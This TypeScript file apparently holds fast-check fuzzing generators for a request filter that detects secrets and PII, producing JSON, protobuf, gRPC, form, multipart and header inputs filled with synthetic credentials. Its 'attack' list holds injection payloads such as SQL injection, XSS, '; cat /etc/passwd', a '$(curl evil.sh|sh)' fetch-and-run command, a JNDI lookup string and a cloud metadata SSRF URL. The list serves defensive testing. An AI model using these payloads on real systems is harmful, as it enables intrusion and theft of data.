// fast-check generators for the fuzz suites: bodies in every format the filter scans (JSON, protobuf, gRPC,
// gzip/deflate, forms, multipart), header maps, chunkings and mutations. Values are laced with real-looking
// secrets and PII (tests/support/sensitive.ts) so detection, redaction and blocking paths run, not only
// the parsers.
import fc from "fast-check";
import { gzipSync, deflateSync, deflateRawSync } from "node:zlib";
import {
  Rng, cardNumber, ssn, email, awsAccessKey, githubToken, iban, jwt, hardNegative, stripeKey, slackToken, usPhone, ipv4, privateKeyPem,
} from "../../support/sensitive.ts";

const SECRET_GENS: Array<(r: Rng) => string> = [
  (r) => cardNumber(r, r.pick(["", " ", "-"] as const)), (r) => ssn(r), email, awsAccessKey, githubToken, (r) => iban(r), jwt,
  hardNegative, stripeKey, slackToken, usPhone, ipv4,
];
/** One realistic sensitive (or hard-negative) value. */
export const secret: fc.Arbitrary<string> = fc.tuple(fc.nat(SECRET_GENS.length - 1), fc.integer()).map(([g, seed]) => SECRET_GENS[g](new Rng(seed)));
export const pem: fc.Arbitrary<string> = fc.integer().map((s) => privateKeyPem(new Rng(s)));

/** Attack-looking strings for request bodies, queries and headers. */
export const attack = fc.constantFrom(
  "' OR 1=1 --", "1 UNION SELECT password FROM users", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
  "../../../../etc/passwd", "; cat /etc/passwd", "$(curl evil.sh|sh)", "${jndi:ldap://x.example/a}", "{{7*7}}",
  "{\"$where\": \"sleep(1000)\"}", "__proto__[admin]=1", "http://169.254.169.254/latest/meta-data/",
);

const KEYS = ["id", "name", "email", "ssn", "card", "card_number", "pan", "token", "password", "api_key", "user", "data",
  "items", "a.b", "c \"d", "é", "emp_id", "address", "note", "x"];
export const key = fc.oneof({ weight: 4, arbitrary: fc.constantFrom(...KEYS) }, { weight: 1, arbitrary: fc.string({ maxLength: 12 }) },
  { weight: 1, arbitrary: fc.string({ unit: "binary", maxLength: 8 }) });

/** Strings: printable, full unicode (incl. lone surrogates via 'binary'), secrets, attacks. */
export const text = fc.oneof(
  { weight: 3, arbitrary: secret },
  { weight: 2, arbitrary: fc.string({ maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: "binary", maxLength: 40 }) },
  { weight: 1, arbitrary: fc.tuple(fc.string({ maxLength: 8 }), secret, fc.string({ maxLength: 8 })).map(([a, s, b]) => a + s + b) },
  { weight: 1, arbitrary: attack },
);

export type J = null | boolean | number | string | J[] | { [k: string]: J };
export const jsonTree: fc.Arbitrary<J> = fc.letrec<{ v: J }>((tie) => ({
  v: fc.oneof({ depthSize: "small", withCrossShrink: true },
    text, fc.double({ noNaN: true, noDefaultInfinity: true }), fc.integer(), fc.constantFrom(4539148803436467, 1234567890123456789),
    fc.boolean(), fc.constant(null),
    fc.array(tie("v"), { maxLength: 5 }),
    fc.dictionary(key, tie("v"), { maxKeys: 6 })),
})).v;

/** JSON text with optional \u-escaping of random characters and random whitespace (same document). */
export const jsonText: fc.Arbitrary<string> = fc.tuple(jsonTree, fc.nat(4), fc.boolean()).map(([v, indent, escape]) => {
  let s = JSON.stringify(v, null, indent) ?? "null";
  if (escape) {
    // \u-escape every 3rd character inside strings: decoded offsets then differ from raw offsets
    let out = "", inStr = false, n = 0;
    for (let i = 0; i < s.length; i++) {
      const c = s[i];
      if (inStr && c === "\\") { out += c + s[++i]; continue; }
      if (c === '"') inStr = !inStr;
      else if (inStr && ++n % 3 === 0) { out += "\\u" + c.charCodeAt(0).toString(16).padStart(4, "0"); continue; }
      out += c;
    }
    s = out;
  }
  return s;
});

/** Byte-level mutations of a seed input: flips, inserts, deletes, truncation, duplicated slices. */
export function mutate(base: fc.Arbitrary<Buffer>): fc.Arbitrary<Buffer> {
  const op = fc.tuple(fc.nat(5), fc.nat(), fc.nat(), fc.nat(255));
  return fc.tuple(base, fc.array(op, { minLength: 1, maxLength: 6 })).map(([b, ops]) => {
    let x = Buffer.from(b);
    for (const [k, a, c, byte] of ops) {
      const i = x.length ? a % x.length : 0;
      switch (k) {
        case 0: if (x.length) x[i] = byte; break;
        case 1: x = Buffer.concat([x.subarray(0, i), Buffer.from([byte]), x.subarray(i)]); break;
        case 2: x = Buffer.concat([x.subarray(0, i), x.subarray(i + 1 + (c % 8))]); break;
        case 3: x = x.subarray(0, i); break;
        case 4: { const j = x.length ? c % x.length : 0; const [lo, hi] = i < j ? [i, j] : [j, i]; x = Buffer.concat([x.subarray(0, hi), x.subarray(lo, Math.min(hi, lo + 64)), x.subarray(hi)]); break; }
        case 5: x = Buffer.concat([x.subarray(0, i), Buffer.from(["\"", "{", "[", "\\", "\\u", "\\ud800", "\xff", "\x00", "%", "--"][byte % 10], "latin1"), x.subarray(i)]); break;
      }
    }
    return x;
  });
}

// ---------------- protobuf ----------------
function varint(n: bigint): Buffer {
  const out: number[] = [];
  let v = BigInt.asUintN(64, n);
  do { let b = Number(v & 0x7fn); v >>= 7n; if (v) b |= 0x80; out.push(b); } while (v);
  return Buffer.from(out);
}
function tag(field: number, wire: number): Buffer { return varint(BigInt((field << 3) | wire)); }
export function ld(field: number, payload: Buffer): Buffer { return Buffer.concat([tag(field, 2), varint(BigInt(payload.length)), payload]); }

type Pb = Buffer;
/** Random protobuf messages (schemaless): varints, fixed, strings laced with secrets, bytes, nested messages, packed. */
export const protobuf: fc.Arbitrary<Pb> = fc.letrec<{ m: Pb }>((tie) => ({
  m: fc.array(fc.oneof({ depthSize: "small" },
    fc.tuple(fc.integer({ min: 1, max: 40 }), fc.bigInt({ min: -(1n << 63n), max: (1n << 64n) - 1n })).map(([f, v]) => Buffer.concat([tag(f, 0), varint(v)])),
    fc.tuple(fc.integer({ min: 1, max: 40 }), fc.uint8Array({ minLength: 4, maxLength: 4 })).map(([f, b]) => Buffer.concat([tag(f, 5), Buffer.from(b)])),
    fc.tuple(fc.integer({ min: 1, max: 40 }), fc.uint8Array({ minLength: 8, maxLength: 8 })).map(([f, b]) => Buffer.concat([tag(f, 1), Buffer.from(b)])),
    fc.tuple(fc.integer({ min: 1, max: 40 }), text).map(([f, s]) => ld(f, Buffer.from(s))),
    fc.tuple(fc.integer({ min: 1, max: 40 }), fc.uint8Array({ maxLength: 24 })).map(([f, b]) => ld(f, Buffer.from(b))),
    fc.tuple(fc.integer({ min: 1, max: 40 }), tie("m")).map(([f, m]) => ld(f, m)),
  ), { maxLength: 8 }).map((parts) => Buffer.concat(parts)),
})).m;

/** gRPC length-prefixed frames; some compressed (flag 1, gzip) when `gzip` is set. */
export function grpcFrames(msgs: Buffer[], compress: boolean[]): Buffer {
  return Buffer.concat(msgs.map((m, i) => {
    const c = compress[i % Math.max(1, compress.length)] ?? false;
    const payload = c ? gzipSync(m) : m;
    const h = Buffer.alloc(5);
    h[0] = c ? 1 : 0;
    h.writeUInt32BE(payload.length, 1);
    return Buffer.concat([h, payload]);
  }));
}
export const grpcBody = fc.tuple(fc.array(protobuf, { minLength: 1, maxLength: 4 }), fc.array(fc.boolean(), { maxLength: 4 })).map(([m, c]) => ({ body: grpcFrames(m, c), compressed: c.some((x) => x) }));

// ---------------- compression ----------------
export type Encoding = "gzip" | "deflate" | "deflate-raw" | "br";
export function compress(b: Buffer, enc: Encoding): Buffer {
  return enc === "gzip" ? gzipSync(b) : enc === "deflate" ? deflateSync(b) : enc === "deflate-raw" ? deflateRawSync(b) : b;
}
/** content-encoding header value for an encoding (raw deflate travels as "deflate"). */
export const encodingHeader = (e: Encoding) => (e === "deflate-raw" ? "deflate" : e);

// ---------------- forms and multipart ----------------
function pct(s: string, how: number): string {
  if (how === 0) return encodeURIComponent(s);
  if (how === 1) return encodeURIComponent(s).replace(/%20/g, "+");
  return s.replace(/[&=]/g, "%26"); // raw, broken escapes kept
}
export const formBody = fc.array(fc.tuple(key, text, fc.nat(2)), { maxLength: 8 }).map((pairs) =>
  Buffer.from(pairs.map(([k, v, how]) => `${pct(k, how)}=${pct(v, how)}`).join("&")));

export const multipart = fc.tuple(
  fc.stringMatching(/^[A-Za-z0-9'()+_,-]{1,40}$/),
  fc.array(fc.tuple(key, fc.nat(3), jsonText, text, fc.uint8Array({ maxLength: 32 })), { maxLength: 4 }),
).map(([boundary, parts]) => {
  const segs: Buffer[] = [];
  for (const [name, kind, j, t, bin] of parts) {
    const n = name.replace(/["\r\n]/g, "_");
    const [ct, body] = kind === 0 ? ["application/json", Buffer.from(j)] : kind === 1 ? ["text/plain", Buffer.from(t)]
      : kind === 2 ? ["application/octet-stream", Buffer.from(bin)] : ["", Buffer.from(t)];
    segs.push(Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${n}"\r\n${ct ? `Content-Type: ${ct}\r\n` : ""}\r\n`), body, Buffer.from("\r\n"));
  }
  segs.push(Buffer.from(`--${boundary}--\r\n`));
  return { boundary, body: Buffer.concat(segs) };
});

// ---------------- headers ----------------
const HEADER_NAMES = ["authorization", "cookie", "set-cookie", "x-api-key", "user-agent", "referer", "x-forwarded-for", "x-request-id",
  "x-caller", "accept", "content-type", "content-encoding", "grpc-encoding", "x-custom"];
/** Header values: secrets, bearer tokens, cookies, odd bytes (latin1 0x80-0xff, controls), long values. */
export const headerValue = fc.oneof(
  text.map((s) => Buffer.from(s).toString("latin1")),
  fc.tuple(fc.constantFrom("Bearer ", "Basic ", ""), secret).map(([p, s]) => p + s),
  fc.array(fc.tuple(fc.stringMatching(/^[a-z_]{1,8}$/), secret), { maxLength: 5 }).map((c) => c.map(([k, v]) => `${k}=${v}`).join("; ")),
  fc.string({ unit: "binary-ascii", maxLength: 60 }),
  fc.tuple(fc.nat(0xff), fc.integer({ min: 1, max: 4096 })).map(([b, n]) => String.fromCharCode(b).repeat(n)),
);
export const headerMap = fc.array(fc.tuple(fc.oneof(fc.constantFrom(...HEADER_NAMES), fc.stringMatching(/^[a-z0-9-]{1,20}$/)), headerValue), { maxLength: 24 });

/** Split points for a body of unknown length: fractions mapped at use. */
export const splitFractions: fc.Arbitrary<number[]> = fc.oneof(
  fc.constant<number[]>([]),
  fc.array(fc.double({ min: 0, max: 1, noNaN: true }), { maxLength: 12 }),
  fc.constant<number[]>([-1]), // sentinel: 1-byte chunks
);
export function splitsFor(len: number, f: readonly number[]): number[] {
  if (f.length === 1 && f[0] === -1) return len <= 256 ? Array.from({ length: len }, (_, i) => i) : [];
  return f.map((x) => Math.floor(x * len));
}
